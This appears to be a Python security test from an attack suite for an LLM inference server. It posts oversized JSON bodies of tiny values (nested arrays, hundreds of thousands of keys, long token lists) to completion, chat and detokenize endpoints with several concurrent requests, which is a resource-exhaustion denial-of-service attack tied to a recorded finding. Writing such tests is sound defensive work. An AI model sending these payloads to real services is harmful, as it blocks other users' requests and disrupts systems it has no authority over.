"""Bodies of 8 MB that consist of the smallest JSON values. If they were parsed in one go, that
would block all other requests."""

import asyncio
import itertools

from tests.attacks.target import AttackTarget
from tests.attacks.uploads import CHAT

FINDING = "9: millions of values are parsed before they are counted"

AT_ONCE = 4
LARGEST = 8_300_000
HEADERS = {"content-type": "application/json"}


def bodies() -> list[tuple[str, bytes]]:
    """Return pairs of a path and the body to post there."""
    keys = b",".join(b'"%x":0' % number for number in range(LARGEST // 10))
    return [
        ("/v1/completions", b'{"prompt":[' + b"[1]," * (LARGEST // 4 - 10) + b"[1]]}"),
        (CHAT, b"{" + keys + b"}"),
        ("/detokenize", b'{"tokens":[' + b"1," * (LARGEST // 2 - 20) + b"1]}"),
    ]


async def attack(target: AttackTarget) -> None:
    """Post the bodies again and again, with a few requests in progress at once."""
    requests = itertools.cycle(bodies())
    async with target.client() as client:

        async def ask() -> None:
            while await target.wait_for_rate_limit():
                path, content = next(requests)
                await target.post(client, path, content=content, headers=HEADERS)

        async with asyncio.TaskGroup() as tasks:
            for _ in range(AT_ONCE):
                tasks.create_task(ask())
